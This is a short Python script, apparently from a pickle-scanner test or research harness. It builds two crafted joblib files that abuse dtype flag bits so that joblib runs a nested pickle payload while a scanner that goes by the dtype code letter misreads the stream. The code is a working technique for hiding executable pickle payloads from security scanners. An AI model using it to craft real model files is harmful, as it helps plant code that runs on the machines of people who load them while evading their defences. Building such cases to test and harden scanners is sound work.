from mk import *
# A dtype state's flags decide dtype.hasobject (bit 0), whatever the code letter: a 'u1'
# dtype with flags 1 makes joblib read a nested pickle (x13), an 'O8' with flags 0 raw bytes
# (x14). A scanner that goes by the letter reads the other one.
def T(n): return b'T'+struct.pack('<i',n)
def tup(*items): return b'('+b''.join(items)+b't'
def wr(n, dt, align=b'N'):
    return G('joblib.numpy_pickle','NumpyArrayWrapper')+b'('+G('numpy','ndarray')+I(n)+b'\x85'+U('C')+dt+b'\x89'+align+b'tR}b'
def flagged(code, flags):
    return dtype(code) + tup(b'K\x03', U('|'), b'N', b'N', b'N', I(-1), I(-1), flags) + b'b'
# x13: a first plain u1 array puts the plain pass out of step (its 5 bytes are a BINSTRING
# header over the rest); then a u1 array flagged as holding objects, shaped to the nested
# pickle's length so that a letter-reading scanner resumes where joblib does.
nested = b'\x80\x02'+PAYLOAD+b'.'
rest = b'0' + wr(len(nested), flagged('u1', b'K\x01')) + nested
check('x13.joblib', b'\x80\x02' + wr(5, dtype('u1')) + T(len(rest)) + rest + b'0N.')
# x14: an empty 'O8' array with flags 0 and alignment 16: joblib reads a padding byte ('T',
# 84), skips 84 bytes and runs the payload; a letter-reading scanner parses a nested pickle
# (one BINSTRING over the payload).
body = bytearray(b'\x00'*85) + b'0'+PAYLOAD+b'0N'
body[0:5] = T(len(body)-5)
check('x14.joblib', b'\x80\x02' + wr(0, flagged('O8', b'K\x00'), b'K\x10') + bytes(body) + b'..')
